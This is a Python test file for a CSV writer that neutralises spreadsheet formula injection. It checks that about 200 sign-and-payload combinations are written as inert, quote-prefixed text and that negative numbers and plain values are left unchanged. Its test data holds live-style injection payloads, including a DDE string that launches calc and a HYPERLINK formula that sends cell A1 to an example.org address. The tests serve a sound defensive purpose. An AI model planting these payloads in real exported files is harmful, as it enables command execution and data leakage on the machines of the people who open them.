"""CSV text: no cell starts a formula, and a negative number is no formula."""

from __future__ import annotations

import csv
import io

import pytest

from watchkeeper.values.csv_text import guarded, line

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
WORDS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?x="&A1,"open")', "SUM(1+9)*cmd", "A1", "", "-1",
    "IMPORTXML(CONCAT(A1))", "DDE(1)", "x\ny", '"', "'", ",", ";", "=1", "2+5+cmd|' /C calc'!A0", "@A1", "9e9", "0x1",
)  # fmt: skip


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("words", WORDS)
def test_no_payload_is_live(sign, words):
    cells = ["first", sign + words]
    (read,) = csv.reader(io.StringIO(line(cells), newline=""))
    negative = sign == "-" and words.isdigit()
    assert read == ["first", sign + words if negative else f"'{sign}{words}"]


def test_there_are_two_hundred_payloads():
    assert len(SIGNS) * len(WORDS) >= 200


@pytest.mark.parametrize("value", ["-5", "-0.25", "-81000000", -5, None, True, "1-1", "", "plain"])
def test_negative_numbers_and_plain_cells_stand_as_they_are(value):
    assert guarded(value) is value


def test_a_line_ends_in_a_line_feed_and_quotes_what_has_to_be():
    assert line(["a", None, 'b "c"', "d, e", "f\rg"]) == 'a,,"b ""c""","d, e","f\rg"\n'
